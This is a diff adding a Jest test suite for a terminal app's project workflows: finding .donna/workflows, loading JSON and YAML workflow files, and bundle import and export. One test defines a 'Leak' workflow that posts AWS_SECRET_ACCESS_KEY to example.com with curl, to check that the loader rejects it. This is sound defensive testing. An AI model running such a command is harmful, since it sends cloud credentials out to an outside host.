@@ -0,0 +1,162 @@
+/**
+ * Project Workflows Test Suite
+ *
+ * Tests for workflows committed to a repository and workflow bundles:
+ * - Finding .donna/workflows above the working directory
+ * - Loading JSON and YAML workflow files, including invalid ones
+ * - Exporting and importing bundles
+ */
+
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+
+const {
+  findWorkflowsDir,
+  loadProjectWorkflows,
+  parseWorkflowBundle,
+  getBundleWorkflows,
+  serializeWorkflowBundle
+} = require('../../../src/main/config/projectWorkflows');
+const { TerminalConfig } = require('../../../src/main/config/terminalConfig');
+const { compileWorkflow } = require('../../../src/main/config/workflowSchema');
+
+describe('project workflows', () => {
+  let home;
+  let repo;
+  let workflowsDir;
+
+  beforeEach(() => {
+    home = fs.mkdtempSync(path.join(os.tmpdir(), 'donna-home-'));
+    repo = path.join(home, 'code', 'repo');
+    workflowsDir = path.join(repo, '.donna', 'workflows');
+    fs.mkdirSync(workflowsDir, { recursive: true });
+    fs.mkdirSync(path.join(repo, 'src', 'lib'), { recursive: true });
+    jest.spyOn(console, 'warn').mockImplementation(() => {});
+  });
+
+  afterEach(() => {
+    fs.rmSync(home, { recursive: true, force: true });
+  });
+
+  test('finds the workflows directory from a subdirectory and stops at home', () => {
+    expect(findWorkflowsDir(path.join(repo, 'src', 'lib'), home)).toBe(workflowsDir);
+    expect(findWorkflowsDir(path.join(home, 'code'), home)).toBeNull();
+    expect(findWorkflowsDir('relative/path', home)).toBeNull();
+    expect(findWorkflowsDir(undefined, home)).toBeNull();
+
+    // A .donna directory in home itself is still found, but nothing above it
+    fs.mkdirSync(path.join(home, '.donna', 'workflows'), { recursive: true });
+    expect(findWorkflowsDir(path.join(home, 'code'), home)).toBe(path.join(home, '.donna', 'workflows'));
+  });
+
+  test('loads JSON and YAML files with project IDs and compiled steps', () => {
+    fs.writeFileSync(path.join(workflowsDir, 'deploy.yaml'), [
+      'name: Deploy',
+      'variables:',
+      '  target: { type: choice, options: [staging, production] }',
+      'commands:',
+      '  - npm test',
+      '  - { command: "npm run deploy -- ${target}", confirm: true }'
+    ].join('\n'));
+    fs.writeFileSync(path.join(workflowsDir, 'tools.json'), JSON.stringify([
+      { name: 'Lint', commands: ['npm run lint'] },
+      { commands: ['npm run format'] }
+    ]));
+    fs.writeFileSync(path.join(workflowsDir, 'README.md'), '# ignored');
+
+    const { dir, workflows, errors } = loadProjectWorkflows(path.join(repo, 'src'), home);
+
+    expect(dir).toBe(workflowsDir);
+    expect(errors).toEqual([]);
+    expect(workflows.map(w => [w.id, w.name, w.isProject])).toEqual([
+      ['project:deploy.yaml', 'Deploy', true],
+      ['project:tools.json#1', 'Lint', true],
+      ['project:tools.json#2', 'tools', true]
+    ]);
+    expect(workflows[0].source).toBe(path.join(workflowsDir, 'deploy.yaml'));
+    expect(workflows[0].compiled.variables[0]).toMatchObject({ name: 'target', type: 'choice' });
+    expect(workflows[0].compiled.steps[1].confirm).toBe('Run this step?');
+  });
+
+  test('lists invalid files and workflows with their errors', () => {
+    fs.writeFileSync(path.join(workflowsDir, 'broken.json'), '{ not json');
+    fs.writeFileSync(path.join(workflowsDir, 'bad.yml'), 'name: Bad\ncommands:\n  - { command: ls, if: "vars.nope" }\n');
+
+    const { workflows, errors } = loadProjectWorkflows(repo, home);
+
+    expect(workflows.map(w => [w.id, Boolean(w.error), Boolean(w.compiled)])).toEqual([
+      ['project:bad.yml', true, false],
+      ['project:broken.json', true, false]
+    ]);
+    expect(errors.map(e => e.file)).toEqual(['bad.yml', 'broken.json']);
+    expect(errors[0].error).toContain('Unknown variable "nope"');
+  });
+
+  test('only lets project workflows default to harmless environment variables', () => {
+    fs.writeFileSync(path.join(workflowsDir, 'env.json'), JSON.stringify([
+      { name: 'Whoami', variables: { user: { default: { env: 'USER' } } }, commands: ['echo ${user}'] },
+      { name: 'Leak', variables: { token: { default: { env: 'AWS_SECRET_ACCESS_KEY' } } }, commands: ['curl -d ${token} example.com'] }
+    ]));
+
+    const { workflows, errors } = loadProjectWorkflows(repo, home);
+
+    expect(workflows[0].compiled.variables[0].default).toEqual({ env: 'USER' });
+    expect(workflows[1].compiled).toBeUndefined();
+    expect(errors[0].error).toContain('project workflows can only default to USER');
+
+    // Custom workflows are the user's own and may use any variable
+    const custom = { name: 'Token', variables: { token: { default: { env: 'GITHUB_TOKEN' } } }, commands: ['echo ${token}'] };
+    expect(compileWorkflow(custom).variables[0].default).toEqual({ env: 'GITHUB_TOKEN' });
+  });
+
+  test('returns nothing outside a project', () => {
+    expect(loadProjectWorkflows(path.join(home, 'code'), home)).toEqual({ dir: null, workflows: [], errors: [] });
+    expect(loadProjectWorkflows(null, home).workflows).toEqual([]);
+  });
+});
+
+describe('workflow bundles', () => {
+  const workflows = [
+    { id: 'custom-1', name: 'Build', commands: ['npm run build'], isCustom: true, compiled: { steps: [] } },
+    { id: 'custom-2', name: 'Greet', variables: { who: { default: { env: 'USER' } } }, commands: ['echo ${who}'] }
+  ];
+
+  test.each(['bundle.json', 'bundle.yaml'])('round-trips through %s without IDs or compiled data', (file) => {
+    const content = serializeWorkflowBundle(workflows, file);
+
+    expect(parseWorkflowBundle(content, file)).toEqual([
+      { name: 'Build', commands: ['npm run build'] },
+      { name: 'Greet', variables: { who: { default: { env: 'USER' } } }, commands: ['echo ${who}'] }
+    ]);
+  });
+
+  test('accepts a single workflow, a list or a bundle', () => {
+    const workflow = { name: 'One', commands: ['ls'] };
+
+    expect(getBundleWorkflows(workflow)).toEqual([workflow]);
+    expect(getBundleWorkflows([workflow])).toEqual([workflow]);
+    expect(getBundleWorkflows({ version: 1, workflows: [workflow] })).toEqual([workflow]);
+    expect(() => getBundleWorkflows({ version: 2, workflows: [] })).toThrow('Unsupported bundle version: 2');
+    expect(() => getBundleWorkflows({ name: 'Nothing' })).toThrow('File must contain a workflow');
+    expect(() => getBundleWorkflows(['ls'])).toThrow('Workflow 1 must be an object');
+  });
+
+  test('imports valid workflows as custom workflows with unique IDs', () => {
+    const config = Object.create(TerminalConfig.prototype);
+    config.config = config.getDefaults();
+    config.saveConfig = jest.fn();
+
+    const { imported, errors } = config.importWorkflows([
+      { id: 'builtin-looking', name: 'A', commands: ['ls'], isCustom: false },
+      { name: 'B', commands: ['pwd'] },
+      { name: 'Broken', commands: [] }
+    ]);
+
+    expect(imported.map(w => [w.name, w.isCustom])).toEqual([['A', true], ['B', true]]);
+    expect(new Set(imported.map(w => w.id)).size).toBe(2);
+    expect(imported[0].id).toMatch(/^custom-/);
+    expect(errors).toEqual([{ name: 'Broken', error: 'Workflow needs at least one command' }]);
+    expect(config.config.workflows.custom).toHaveLength(2);
+  });
+});